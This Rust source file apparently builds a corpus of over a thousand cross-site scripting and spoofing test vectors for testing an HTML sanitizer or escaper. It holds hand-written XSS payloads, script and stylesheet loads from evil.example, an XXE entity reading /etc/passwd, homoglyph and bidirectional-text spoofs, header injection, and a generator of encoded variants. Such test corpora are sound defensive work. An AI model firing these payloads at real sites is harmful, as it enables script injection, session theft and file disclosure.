//! Texts that want to be more than text: over a thousand, of hand and of a small workshop.

use std::collections::BTreeSet;

/// Every kind of trick that once worked on somebody: tags, handlers, schemes, broken nesting, foreign content, entities,
/// encodings, templates, ends of what surrounds the text.
const BY_HAND: [&str; 78] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=`x` onerror=`alert(1)`>",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\">",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(2)>x",
    "<input autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src onloadstart=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href='vbscript:msgbox(1)' ping='https://evil.example/'>x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"//evil.example\" referrerpolicy=unsafe-url>x</a>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</a></h2></article></main></body></html><script>alert(1)</script>",
    "</noscript><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<?php echo 1 ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "<!ENTITY % p \"x\">%p;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)",
    "&lt;img src=x onerror=alert(1)&gt",
    "&quot; onmouseover=&quot;alert(1)",
    "{{constructor.constructor('alert(1)')()}}{% include 'x' %}${alert(1)}",
    "<x-element onclick=alert(1) is=evil>x</x-element>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e} +ADw-script+AD4-",
    "<é onclick=alert(1)>\u{2028}</script>\u{2029}",
];

/// Texts that want to look like what they are not: another direction, another letter, nothing, a terminal's command.
const SPOOFS: [&str; 24] = [
    "NHS\u{202e}dne\u{202c} England",
    "\u{2066}a\u{2067}b\u{2068}c\u{2069}",
    "\u{200e}left\u{200f}right\u{61c}arabic",
    "Cancer Re\u{200b}search\u{200c} UK\u{200d}\u{2060}",
    "\u{feff}BBC News\u{feff}",
    "Саncеr Rеsеаrсh UК",
    "ᏴᏴᏟ Νews",
    "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
    "\u{8}\u{8}\u{8}over",
    "a\u{0}b\u{1}c\u{1f}d\u{7f}e\u{80}f\u{9f}g",
    "\u{fffe}\u{ffff}\u{1fffe}\u{fdd0}x",
    "it\u{fffd}s unreadable",
    "line\u{2028}and\u{2029}paragraph",
    "\u{e0001}\u{e0041}\u{e0042}tagged",
    "soft\u{ad}hy\u{ad}phens",
    "https://www.nhs.uk@evil.example/",
    "www.nhs.uk",
    "javascript:alert(1)",
    "JaVaScRiPt\u{a0}:alert(1)//\u{2028}",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "data:text/html,x",
    "Set-Cookie: a=b\r\nX: y",
];

const TAGS: [&str; 26] = [
    "script",
    "img",
    "svg",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "body",
    "video",
    "audio",
    "details",
    "math",
    "style",
    "link",
    "meta",
    "base",
    "template",
    "x-element",
    "a",
    "button",
    "isindex",
    "marquee",
    "frameset",
    "title",
    "textarea",
];

const ATTRIBUTES: [&str; 9] = [
    " src=x onerror=alert(1)",
    " href=javascript:alert(1)",
    " srcdoc=\"<script>alert(1)</script>\"",
    "/onload=alert(1)/",
    " style='background:url(javascript:alert(1))'",
    " formaction=java\tscript:alert(1) autofocus",
    "\nonfocus\n=\nalert(1)\ntabindex=1 ",
    " http-equiv=refresh content='0;url=data:text/html,x'",
    " xlink:href=//evil.example xmlns=http://www.w3.org/1999/xhtml ping=/x",
];

/// Ends of what may surround a text.
const BREAKERS: [&str; 13] = [
    "",
    "\"",
    "'>",
    "\" x=\"",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "-->",
    "]]>",
    "</a></h2></article>",
    "</bdi></a>",
    "&gt;",
];

/// How a text can be written so that somebody who decodes once more gets it back.
const DISGUISES: [fn(&str) -> String; 6] = [
    str::to_owned,
    |text| text.replace('<', "&lt;").replace('>', "&gt;"),
    |text| text.replace('<', "&#60").replace('>', "&#x3E;"),
    |text| text.replace('&', "&amp;").replace('<', "&amp;lt;"),
    |text| text.replace('<', "%3C").replace('>', "\\u003e"),
    |text| text.replace('<', "\u{ff1c}").to_uppercase(),
];

/// Distinct, those of hand first.
pub(super) fn all() -> Vec<String> {
    let mut seen = BTreeSet::new();
    let of_hand = BY_HAND.iter().chain(&SPOOFS).map(|text| (*text).to_owned());
    let mut vectors: Vec<_> = of_hand.chain(made()).collect();
    vectors.retain(|vector| seen.insert(vector.clone()));
    assert!(vectors.len() >= 1_000, "{} vectors", vectors.len());
    vectors
}

/// Each tag with each attribute, by turns behind each breaker and in each disguise.
fn made() -> impl Iterator<Item = String> {
    let parts = TAGS
        .iter()
        .flat_map(|tag| ATTRIBUTES.iter().map(move |attribute| (tag, attribute)));
    parts.enumerate().flat_map(|(number, (tag, attribute))| {
        let breaker = BREAKERS[number % BREAKERS.len()];
        let text = format!("{breaker}<{tag}{attribute}>x</{tag}>");
        DISGUISES.iter().map(move |disguise| disguise(&text))
    })
}

/// What of a text may be published: no controls, no turns of direction; what nobody could read is a question mark.
pub(super) fn public(vector: &str) -> String {
    let turns = ['\u{61c}', '\u{200e}', '\u{200f}'];
    let hidden = |c: &char| {
        c.is_control() && !matches!(c, '\n' | '\t')
            || turns.contains(c)
            || ('\u{202a}'..='\u{202e}').contains(c)
            || ('\u{2066}'..='\u{2069}').contains(c)
            || ('\u{fdd0}'..='\u{fdef}').contains(c)
            || u32::from(*c) & 0xfffe == 0xfffe
    };
    let text = vector.replace("\r\n", "\n").replace('\u{fffd}', "?");
    text.chars().filter(|c| !hidden(c)).collect()
}
